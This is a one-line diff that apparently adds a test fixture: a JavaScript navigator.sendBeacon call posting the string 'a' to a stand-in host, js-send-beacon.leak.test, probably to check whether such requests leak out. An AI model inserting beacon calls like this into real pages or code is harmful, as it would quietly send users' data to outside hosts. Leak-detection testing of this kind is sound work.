@@ -1,0 +1,1 @@
+navigator.sendBeacon("https://js-send-beacon.leak.test/", "a")
